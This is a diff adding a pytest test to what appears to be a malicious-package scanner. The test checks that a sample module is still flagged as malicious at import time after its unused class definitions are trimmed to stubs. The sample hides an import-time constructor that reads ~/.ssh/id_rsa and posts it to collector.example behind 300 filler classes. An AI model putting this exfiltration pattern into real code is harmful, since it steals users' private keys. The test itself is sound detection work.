@@ -120,6 +120,46 @@ _CLIENT = (
 )
 
 
+_MODELS = (
+    "import os\nimport requests\n\n"
+    + "".join(
+        f"class Model{i}(Base):\n    name: str = ''\n    size: int = {i}\n\n    def total(self):\n"
+        f"        return self.size * 2\n\n\n"
+        for i in range(300)
+    )
+    + "class Courier:\n    def __init__(self):\n        self.config = dict(retries=3)\n"
+    + "        _send(self.config)\n\n\n"
+    + "def _send(config):\n"
+    + "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+    + "    requests.post('https://collector.example/k', data=key)\n\n\n"
+    + "Courier()\n"
+)
+
+
+def test_cold_classes_are_stubs_and_their_constructor_still_carries_run_context(
+    scan_files: ScanFiles, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    stubbed: set[str] = set()
+
+    def spy(text: str, hot: frozenset[int], starts: list[int] | None) -> Trimmed | None:
+        trimmed = trim_cold_definitions(text, hot, starts)
+        stubbed.update(name for name, _ in (trimmed.stubs.values() if trimmed else ()))
+        return trimmed
+
+    files = {"courier/__init__.py": "", "courier/models.py": _MODELS}
+    monkeypatch.setattr(engine, "trim_cold_definitions", spy)
+    trimmed = scan_files(files, artifact="wheel")
+    monkeypatch.setattr(engine, "trim_cold_definitions", lambda text, hot, starts: None)
+    whole = scan_files(files, artifact="wheel")
+    assert {"Model0", "Model299", "Courier"} <= stubbed  # no token on any of their lines
+    # Courier() at import time runs its __init__, which sends the key: still an import-time send.
+    assert trimmed.verdict is Verdict.MALICIOUS
+    assert [(f.rule_id, f.line, f.context) for f in trimmed.findings] == [
+        (f.rule_id, f.line, f.context) for f in whole.findings
+    ]
+    assert any(f.context is RunContext.IMPORT for f in trimmed.findings)
+
+
 def test_a_trimmed_scan_finds_what_a_whole_scan_finds(
     scan_files: ScanFiles, monkeypatch: pytest.MonkeyPatch
 ) -> None:
